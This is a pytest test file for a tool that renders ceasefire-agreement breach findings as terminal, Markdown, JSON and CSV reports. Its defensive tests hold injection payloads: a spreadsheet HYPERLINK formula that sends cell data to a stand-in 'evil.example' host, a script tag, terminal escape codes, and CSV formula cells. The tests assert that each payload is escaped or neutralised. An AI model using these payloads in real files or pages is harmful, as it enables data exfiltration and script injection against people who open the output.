"""What the terminal, Markdown, JSON and CSV reports say, checked against the findings they render.

Each format is built from the small fixture (where every expected finding is known) and from the
shipped agreements and events (where every finding of the model must appear, and the counts must
match the model's summary).
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from report_helpers import INJECTED

from compliance import __version__
from compliance.reports import csvout, jsonout, markdown, model, table
from compliance.reports.model import Filters, Report, summary
from compliance.reports.render import render

EXPECTED = [  # (event, clause, party, role, confidence, status) of the fixture, in report order
    (INJECTED, "pact-2020/no-shelling", "syria-gov", "actor", "confirmed", "breach"),
    (INJECTED, "pact-2020/no-shelling", "russia", "guarantor", "confirmed", "breach"),
    ("pact-airstrike-2020-02-10", "pact-2020/no-shelling", "armed-opposition", "actor", "alleged", "breach"),
    ("pact-airstrike-2020-02-10", "pact-2020/no-shelling", "turkey", "guarantor", "alleged", "breach"),
    (None, "pact-2020/joint-patrols", "russia", "obligor", "probable", "breach"),
    (None, "pact-2020/joint-patrols", "turkey", "obligor", "probable", "breach"),
]


def test_fixture_findings_are_the_expected_ones(small: Report):
    got = [(r["event_id"], r["clause"], r["party"], r["role"], r["confidence"], r["status"])
           for r in small.finding_records()]
    assert got == EXPECTED


# -- terminal ---------------------------------------------------------------------------------------------


def test_table_fixture(small: Report):
    out = table.render(small)
    lines = out.splitlines()
    assert lines[0] == "Compliance report — profile default (profiles/default)"
    assert "Events: 4 events read, 4 evaluated, 0 set aside, 1 with an actor that names no party" in out
    assert "Findings: 6 findings: 6 breaches, 0 possible, 0 contested" in out
    # the matrix: agreement × party, as actor / guarantor / obligor
    row = next(line for line in lines if line.startswith("│ pact-2020"))
    assert [c.strip() for c in row.strip("│").split("│")] == ["pact-2020", "1 / · / ·", "· / 1 / 1", "· / 1 / 1",
                                                              "1 / · / ·"]
    header = next(line for line in lines if "agreement" in line and "syria-gov" in line)
    assert [c.strip() for c in header.strip("┃").split("┃")] == ["agreement", "syria-gov", "russia", "turkey",
                                                                 "armed-opposition"]
    assert re.search(r"pact-2020/no-shelling\s+│ 1\s+│\s+4 │", out)
    assert re.search(r"pact-2020/joint-patrols\s+│ 2\s+│\s+2 │", out)
    assert re.search(r"2020-02 │ 4 │ █{30}", out) and re.search(r"2020-03 │ 2 │ █{15} ", out)
    # every finding: its event (date, id, place) once, then clause, party, role, confidence, status
    assert f"2020-02-01  {INJECTED} — " in out and "2020-03-01  (deadline of a duty of result)" in out
    for i, (_, clause, party, role, confidence, status) in enumerate(EXPECTED, 1):
        assert re.search(rf"^\s+{i}\s+{re.escape(clause)} \(art\. \d\)\s+{party}\s+{role}\s+{confidence}\s+{status}",
                         out, re.M), i
    assert "Unresolved actor: pact-unknown-2020-03-02: actor unknown: No group is named." in out


def _with(report: Report, findings) -> Report:
    """The same report showing these (edited) findings."""
    edited = Report(report.outcome, report.inputs, report.filters)
    edited.findings = findings
    return edited


def test_table_input_cannot_restyle_the_terminal(small: Report):
    findings = small.findings.copy()
    findings.loc[0, "location"] = "[bold red]X[/] \x1b[31mred\x1b[0m\x07"
    out = table.render(_with(small, findings))
    assert "\x1b" not in out and "\x07" not in out
    assert "[bold red]X[/] \\x1b[31mred\\x1b[0m" in out  # rich markup shown as typed, not applied


def test_table_shipped(shipped: Report):
    out = table.render(shipped)
    f = shipped.findings
    assert f"Findings: {len(f)} findings:" in out
    s = summary(f)
    for rec in s["by_clause"][:10]:
        assert re.search(rf"{re.escape(rec['clause'])}\s+│ .*│\s+{rec['count']} │", out), rec
    for month in {r["month"] for r in s["by_month"]}:
        total = sum(r["count"] for r in s["by_month"] if r["month"] == month)
        assert re.search(rf"│ {month} │\s+{total} │", out), month
    for agreement in f["agreement"].unique():
        assert f"│ {agreement} " in out
    numbered = re.findall(r"^\s+(\d+)\s+\S+/\S+ \(art\. ", out, re.M)
    assert [int(n) for n in numbered] == list(range(1, len(f) + 1))
    for event in f["event_id"].dropna().unique():
        assert event in out


# -- Markdown ---------------------------------------------------------------------------------------------


def _md_rows(text: str, heading: str) -> list[list[str]]:
    """The body rows of the first table after ``heading``, split on unescaped pipes."""
    lines = text.split(f"\n{heading}\n", 1)[1].splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("|"))
    end = next((i for i in range(start, len(lines)) if not lines[i].startswith("|")), len(lines))
    rows = lines[start + 2:end]
    return [[c.strip() for c in re.split(r"(?<!\\)\|", r)[1:-1]] for r in rows]


def test_markdown_fixture(small: Report):
    out = markdown.render(small)
    assert out.startswith("# Compliance report — profile default\n")
    assert "- Findings: 6 findings: 6 breaches, 0 possible, 0 contested" in out
    assert "least attribution counted = alleged" in out
    assert _md_rows(out, "## Findings by agreement and party") == [
        ["pact-2020", "1 / · / ·", "· / 1 / 1", "· / 1 / 1", "1 / · / ·"]]
    assert _md_rows(out, "## Clauses most breached") == [
        ["pact-2020/no-shelling", "1", "The parties stop shelling and air strikes inside the pact zone.", "4"],
        ["pact-2020/joint-patrols", "2", "Russia and Turkey patrol the pact road together by 1 March 2020.", "2"]]
    assert _md_rows(out, "## Findings per month") == [["2020-02", "1", "1", "1", "1", "4"],
                                                      ["2020-03", "", "1", "1", "", "2"]]
    rows = _md_rows(out, "## Findings")
    assert [(r[2], r[4], r[6], r[7], r[8], r[9]) for r in rows] == [
        (e or "(deadline)", c, p, r, conf, s) for e, c, p, r, conf, s in EXPECTED]
    assert all(len(r) == 10 for r in rows)  # the place's pipe-free, escaped text keeps the columns
    assert rows[0][3] == '=HYPERLINK("https://evil.example/?d="&amp;A1,"Click"), Idleb'
    why = out.split("## Why each finding holds\n", 1)[1]
    assert "1. **pact-2020/no-shelling**, syria-gov as actor (confirmed, breach): Event pact-shelling" in why
    assert "   - Event sources: &lt;script&gt;window.\\_\\_pwned=3&lt;/script&gt;" in why
    assert "<script" not in out and "<img" not in out
    assert "- pact-unknown-2020-03-02: actor unknown: No group is named." in out
    for path in sorted(Path("tests/reports/fixtures").rglob("*.*")):
        if path.suffix in (".yaml", ".geojson"):
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            assert f"`{digest}`" in out, path


def test_markdown_escapes_markup():
    assert markdown.md("a|b *c* _d_ [e](f) <g> `h` \\ #i") == \
        "a\\|b \\*c\\* \\_d\\_ \\[e\\](f) &lt;g&gt; \\`h\\` \\\\ \\#i"
    assert markdown.md("line\nbreak\x1b") == "line break\ufffd"


def test_markdown_shipped(shipped: Report):
    out = markdown.render(shipped)
    rows = _md_rows(out, "## Findings")
    assert len(rows) == len(shipped.findings)
    assert all(len(r) == 10 for r in rows)
    assert [(r[4], r[6], r[7]) for r in rows] == [
        (markdown.md(c), markdown.md(p), markdown.md(r)) for c, p, r in
        shipped.findings[["clause", "party", "role"]].itertuples(index=False)]
    s = summary(shipped.findings)
    assert [(r[0], int(r[-1])) for r in _md_rows(out, "## Clauses most breached")] == [
        (markdown.md(r["clause"]), r["count"]) for r in s["by_clause"]]
    assert len(re.findall(r"^\d+\. \*\*", out, re.M)) == len(shipped.findings)


# -- JSON -------------------------------------------------------------------------------------------------


def test_json_fixture(small: Report):
    data = json.loads(render(small, "json"))
    assert [(f["event_id"], f["clause"], f["party"], f["role"], f["confidence"], f["status"])
            for f in data["findings"]] == EXPECTED
    first = data["findings"][0]
    assert first["date"] == "2020-02-01" and first["agreement"] == "pact-2020"
    assert first["explanation"].startswith(f"Event {INJECTED}: syria-gov carried out shelling")
    assert data["events"]["read"] == 4 and data["events"]["evaluated"] == 4
    assert [u["event_id"] for u in data["events"]["unresolved"]] == ["pact-unknown-2020-03-02"]
    assert data["tool"] == {"name": "compliance", "version": __version__}
    assert data["profile"]["id"] == "default" and data["profile"]["min_attribution"] == "alleged"
    hashes = {i["path"]: i["sha256"] for i in data["inputs"]}
    for path in [*Path("tests/reports/fixtures/terms").rglob("*.*"), Path("tests/reports/fixtures/events/events.yaml")]:
        assert hashes[str(path)] == hashlib.sha256(path.read_bytes()).hexdigest()


def test_json_shipped(shipped: Report):
    data = json.loads(render(shipped, "json"))
    assert len(data["findings"]) == len(shipped.findings)
    assert data["summary"]["findings"] == len(shipped.findings)
    assert data["events"]["read"] == data["events"]["evaluated"] + len(data["events"]["set_aside"])
    for f in data["findings"]:
        assert f["role"] in ("actor", "guarantor", "obligor")
        assert f["clause"].startswith(f["agreement"] + "/")
        assert f["explanation"]


# -- CSV --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =1+1", "＝1", "＋1", "－1", "＠x"])
def test_csv_neutralises_formula_cells(cell: str):
    assert csvout.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Idleb", "a=b", "2020-02-01", "", "'quoted", "x-1"])
def test_csv_leaves_other_text(cell: str):
    assert csvout.neutralise(cell) == cell


def test_csv_keeps_numbers_as_numbers():
    assert csvout.neutralise(-1.5) == -1.5 and csvout.neutralise(None) == ""


def _csv(report: Report) -> list[dict[str, str]]:
    text = csvout.render(report)
    assert text.startswith("\ufeff") and "\r\n" in text
    body = text[1:]
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert list(rows[0]) == list(csvout.COLUMNS) if rows else True
    return rows


def test_csv_fixture(small: Report):
    rows = _csv(small)
    assert [(r["event_id"] or None, r["clause"], r["party"], r["role"], r["confidence"], r["status"])
            for r in rows] == EXPECTED
    injected = rows[0]
    assert injected["location"] == "'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")"
    assert injected["event_notes"].startswith("'=HYPERLINK(")
    assert "<script>window.__pwned=1</script>" in injected["event_notes"]  # plain text in a spreadsheet
    assert injected["clause_text"] == "The parties stop shelling and air strikes inside the pact zone."
    assert float(injected["lat"]) == 35.8 and float(injected["lon"]) == 36.6
    second = rows[2]
    assert (second["location"], second["admin1"], second["event_notes"]) == ("'+SUM(1,1)", "'@Idleb", "'-2+3 cmd")
    assert second["event_sources"] == "'\tTest monitor (2020-02-11)"
    deadline = rows[4]
    assert deadline["event_id"] == "" and deadline["date"] == "2020-03-01" and deadline["lat"] == ""
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


def test_csv_carriage_return_cell(small: Report):
    findings = small.findings.copy()
    findings.loc[0, "location"] = "\r=1+1"
    findings.loc[1, "explanation"] = "-2+3"
    rows = _csv(_with(small, findings))
    assert rows[0]["location"] == "'\r=1+1" and rows[1]["explanation"] == "'-2+3"


def test_csv_opens_as_a_table(small: Report, tmp_path: Path):
    path = tmp_path / "r.csv"
    path.write_text(csvout.render(small), encoding="utf-8", newline="")
    frame = pd.read_csv(path, encoding="utf-8-sig")
    assert list(frame.columns) == list(csvout.COLUMNS) and len(frame) == 6
    assert frame["lat"].dtype == "float64" and frame["lat"].iloc[0] == 35.8  # numbers stay numbers


def test_csv_shipped(shipped: Report):
    rows = _csv(shipped)
    assert len(rows) == len(shipped.findings)
    assert [(r["clause"], r["party"], r["role"]) for r in rows] == [
        tuple(x) for x in shipped.findings[["clause", "party", "role"]].itertuples(index=False)]
    assert all(r["clause_text"] for r in rows)
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_streamed_reports_do_not_depend_on_the_slice_size(shipped: Report, fmt: str, monkeypatch):
    """JSON and CSV are written a slice of findings at a time: the bytes must not show where slices end."""
    whole = render(shipped, fmt)
    monkeypatch.setattr(model, "CHUNK", 7)
    monkeypatch.setattr(jsonout, "CHUNK", 7)
    sliced = Report(shipped.outcome, shipped.inputs, shipped.filters)
    assert render(sliced, fmt) == whole
    if fmt == "json":
        data = json.loads(whole)
        assert len(data["findings"]) == shipped.count > 7
        assert data["findings"] == model.records(shipped.findings)


def test_json_report_with_no_findings_is_valid(small: Report):
    empty = Report(small.outcome, small.inputs, Filters(parties=("nobody",)))
    data = json.loads(render(empty, "json"))
    assert data["findings"] == [] and data["summary"]["findings"] == 0
    assert data["events"]["read"] == small.outcome.read


@pytest.mark.parametrize("filters", [Filters(), Filters(parties=("russia",)), Filters(since=dt.date(2020, 1, 1)),
                                     Filters(parties=("nobody",))])
def test_summary_from_codes_equals_summary_of_the_findings_table(shipped: Report, small: Report, filters: Filters):
    """Reports count on the findings' codes; the counts must be those of the findings table itself."""
    for base in (shipped, small):
        report = Report(base.outcome, base.inputs, filters)
        assert report.summary == summary(report.findings)
        assert report.count == len(report.findings) == len(report.facts)
